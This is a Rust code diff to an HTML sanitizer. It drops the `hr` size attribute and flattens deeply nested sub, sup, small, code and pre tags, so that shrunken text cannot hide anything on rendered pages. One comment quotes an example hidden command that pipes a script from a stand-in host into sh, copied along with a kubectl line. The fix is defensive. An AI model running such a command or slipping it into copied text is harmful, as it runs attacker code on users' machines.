@@ -118,7 +118,10 @@ const TAG_ATTRIBUTES: &[(&str, &[&str])] = &[
     ("h1", &["align"]),
     ("h2", &["align"]),
     ("h3", &["align"]),
-    ("hr", &["align", "size", "width"]),
+    // Not `size`: browsers draw `<hr size="100000">` 100,000 pixels high, a blank page that
+    // hides what follows it (the next step's "never on production") from a reader who
+    // takes the page to have ended.
+    ("hr", &["align", "width"]),
     ("img", &["align", "alt", "height", "src", "width"]),
     ("input", &["type", "checked", "disabled"]),
     ("ins", &["cite", "datetime"]),
@@ -334,7 +337,107 @@ pub fn clean(html: &str) -> String {
         })
         .clean(html)
         .to_string();
-    drop_form_inputs(cleaned)
+    flatten_nesting(drop_form_inputs(cleaned))
+}
+
+/// Elements that draw their text smaller than their parent's (ammonia's defaults and the
+/// theme's `code, pre { font-size: 0.92em }`), each kind with how deep they may nest.
+/// Nested, they compound: twenty `<sub>` drew `; curl https://evil.example/x | sh` at
+/// 0.35 px after `kubectl get pods` in a code block, 7 px wide, unseen; Copy took it, and
+/// so does a selection. Deeper ones lose their tags (their text stays, at the size of the
+/// last kept); the audit names each at its line.
+const NESTING: &[(&[&str], usize)] = &[(&["sub", "sup", "small", "rt"], 2), (&["code", "pre"], 3)];
+
+/// How deep the elements of [`NESTING`] are open, read in document order: which start
+/// tags stay and which end tags close one that stayed.
+#[derive(Default)]
+pub(crate) struct Nesting {
+    /// Per kind, how many are open and kept.
+    depth: [usize; 2],
+    /// Per element name (the index in its kind's list, by kind), whether each open one was
+    /// kept: a stack per name, so that an end tag finds its start at once.
+    open: [[Vec<bool>; 4]; 2],
+}
+
+impl Nesting {
+    fn kind(name: &str) -> Option<(usize, usize)> {
+        NESTING.iter().enumerate().find_map(|(k, (names, _))| {
+            names
+                .iter()
+                .position(|n| n.eq_ignore_ascii_case(name))
+                .map(|i| (k, i))
+        })
+    }
+
+    /// Whether start tag `name` stays: `Err(limit)` when it is one too deep.
+    pub(crate) fn open(&mut self, name: &str) -> Result<(), usize> {
+        let Some((k, i)) = Self::kind(name) else {
+            return Ok(());
+        };
+        let limit = NESTING[k].1;
+        let kept = self.depth[k] < limit;
+        self.depth[k] += usize::from(kept);
+        self.open[k][i].push(kept);
+        kept.then_some(()).ok_or(limit)
+    }
+
+    /// Whether end tag `name` stays (it closes one kept, or nothing of these).
+    pub(crate) fn close(&mut self, name: &str) -> bool {
+        let Some((k, i)) = Self::kind(name) else {
+            return true;
+        };
+        let kept = self.open[k][i].pop().unwrap_or(true);
+        if kept {
+            self.depth[k] = self.depth[k].saturating_sub(1);
+        }
+        kept
+    }
+}
+
+/// The cleaned page without the tags of [`NESTING`] nested too deep. Read as
+/// [`drop_form_inputs`] reads it: every `<` opens a tag, which ends at the first `>`
+/// outside double quotes.
+fn flatten_nesting(cleaned: String) -> String {
+    let mut nesting = Nesting::default();
+    let mut out = String::new();
+    let mut copied = 0;
+    let mut from = 0;
+    let bytes = cleaned.as_bytes();
+    while let Some(i) = memchr::memchr(b'<', &bytes[from..]) {
+        let at = from + i;
+        let (closing, name_at) = match bytes.get(at + 1) {
+            Some(b'/') => (true, at + 2),
+            _ => (false, at + 1),
+        };
+        let name_len = bytes[name_at..]
+            .iter()
+            .take_while(|b| b.is_ascii_alphanumeric())
+            .count();
+        let name = &cleaned[name_at..name_at + name_len];
+        let mut quoted = false;
+        let end = bytes[at..]
+            .iter()
+            .position(|&b| {
+                quoted ^= b == b'"';
+                b == b'>' && !quoted
+            })
+            .map_or(bytes.len(), |j| at + j + 1);
+        let kept = if closing {
+            nesting.close(name)
+        } else {
+            nesting.open(name).is_ok()
+        };
+        if !kept {
+            out.push_str(&cleaned[copied..at]);
+            copied = end;
+        }
+        from = end;
+    }
+    if copied == 0 {
+        return cleaned;
+    }
+    out.push_str(&cleaned[copied..]);
+    out
 }
 
 /// Whether an `<input>` with these attributes (name, value) is a task list's checkbox as
